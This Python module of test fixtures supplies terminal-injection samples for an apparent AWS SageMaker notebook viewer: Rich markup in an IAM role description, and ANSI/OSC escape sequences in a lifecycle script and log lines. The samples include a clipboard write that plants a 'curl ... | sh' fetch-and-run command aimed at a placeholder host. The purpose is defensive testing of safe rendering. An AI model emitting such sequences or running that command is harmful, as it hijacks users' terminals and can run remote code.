"""Text that real accounts hold and that a terminal must show, never obey: brackets and a Rich
link in an IAM role's description, Rich's emoji markup in a tag, escape sequences in a lifecycle
script and in a notebook's log. Pure data.

The demo fleet carries all of it on one notebook, ``bob-experiments`` (its role, tags, lifecycle
configuration and logs), so that everyone sees it handled; it is never the notebook the
screenshots select, and its row in the table (name, status, type, region, lifecycle, platform)
is plain. Tests read the values from here.

Each value is one AWS accepts. An IAM role description may hold brackets (its pattern is
printable Latin-1, tab and line breaks: no escape bytes). A SageMaker tag value may hold only
letters, numbers, spaces and ``_.:/=+-@``: no brackets, no control characters, but ``:name:``
is Rich's emoji markup. A lifecycle script (base64 in the API) and a log message may hold any
character.
"""

from __future__ import annotations

import base64

NOTEBOOK = "bob-experiments"
ROLE = "experiments-notebook-role"
# "[/data]" closes a tag that was never opened: Rich's markup parser raises MarkupError.
ROLE_DESCRIPTION = (
    "Bob's experiments: access to [/data] bucket. "
    "[link=https://example.invalid]Session expired[/link]"
)
# Rendered as markup, ":rotating_light:" becomes an emoji.
TAG = ("on-call", ":rotating_light: page @bob")

# OSC 52: the terminal writes this base64 text to the viewer's clipboard (where allowed).
CLIPBOARD_TEXT = b"curl -s https://example.invalid/x.sh | sh\n"
CLIPBOARD_WRITE = "\x1b]52;c;" + base64.b64encode(CLIPBOARD_TEXT).decode() + "\x07"
WINDOW_TITLE = "\x1b]0;pwned\x07"  # OSC 0: the window's title
CLEAR_SCREEN = "\x1b[2J"  # CSI 2 J
C1_CLEAR_SCREEN = "\x9b2J"  # the same with CSI as one C1 character, which some terminals obey
HYPERLINK = "\x1b]8;;https://example.invalid/card\x1b\\the model card\x1b]8;;\x1b\\"  # OSC 8

# Lines for the install-extensions lifecycle script: a banner pasted from a colour terminal
# into a comment, and an echo whose output (OnStart's log) carries the same bytes.
SCRIPT_LINES = (
    "# banner pasted from a colour terminal: \x1b[1;32mextensions ready\x1b[0m",
    f'echo "Extensions installed{WINDOW_TITLE}{CLIPBOARD_WRITE}{CLEAR_SCREEN}"',
)
# What the notebook's own code wrote to jupyter.log near the end of its last run: a web app
# it started (uvicorn logs in colour), a library that logs hyperlinks, and its own prints.
LOG_LINES = (
    "\x1b[32mINFO\x1b[0m:     Started server process [\x1b[36m4121\x1b[0m]",
    "\x1b[32mINFO\x1b[0m:     Uvicorn running on \x1b[1mhttp://127.0.0.1:7860\x1b[0m "
    "(Press CTRL+C to quit)",
    f"\x1b[33mWARNING\x1b[0m:  weights are a preview: see {HYPERLINK}",
    f"epoch 3/3 done{WINDOW_TITLE}{CLIPBOARD_WRITE}",
    f"{C1_CLEAR_SCREEN}{CLEAR_SCREEN}val_loss=0.0412",
)
